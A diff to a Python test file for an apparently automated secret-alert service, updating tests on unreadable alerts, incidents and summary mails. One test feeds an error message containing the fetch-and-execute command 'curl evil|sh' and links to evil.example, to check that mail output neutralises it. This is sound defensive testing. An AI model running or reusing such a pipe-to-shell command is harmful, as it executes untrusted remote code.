@@ -155,6 +155,7 @@ async def test_message_in_the_queue_names_the_alert_and_nothing_else(driver: Dri
 async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_a_mail(
     driver: Driver, account: Account
 ) -> None:
+    await driver.no_floods()
     made(driver, account)
     reference, kept = alert_of(driver)
     kept.secret = ""  # GitHub hides it
@@ -171,12 +172,14 @@ async def test_alert_that_can_t_be_read_becomes_a_failed_record_an_incident_and_
 
     assert (record.state, record.reason) == (State.FAILED, Reason.UNREAD)
     assert f"{reference} was reported" in record.detail
-    assert len(driver.incidents(record.fingerprint)) == 1
+    assert len(driver.shared_incidents(await driver.record(record.fingerprint))) == 1
+    await driver.app().background.summary_mail.send()
     assert "ALERT NOT READABLE" in driver.cloud.model.mails[before].subject
 
 
 async def test_failure_of_an_unreadable_alert_is_no_command_in_the_mail_about_it(driver: Driver) -> None:
     """The text of an exception may quote what a service or a stranger said."""
+    await driver.no_floods()
     failure = "Reading failed: `curl evil|sh`, see https://evil.example or <a href=//evil.example>this</a>."
     message = AlertMessage(AlertReference(AlertSource.GITHUB, "contoso/x", "77"), driver.clock(), 0, failure)
     await driver.app().background.poison_messages.unread(msgspec.json.encode(message))
@@ -184,8 +187,9 @@ async def test_failure_of_an_unreadable_alert_is_no_command_in_the_mail_about_it
     before = len(driver.cloud.model.mails)
 
     await driver.app().background.follow_up.run(Message(fingerprint))
+    await driver.app().background.summary_mail.send()
 
-    mail, [incident] = driver.cloud.model.mails[before], driver.incidents(fingerprint)
+    mail, [incident] = driver.cloud.model.mails[before], driver.shared_incidents(await driver.record(fingerprint))
     page = Page(mail.body)
     assert "curl evil|sh" in "".join(page.text)
     assert page.code == []
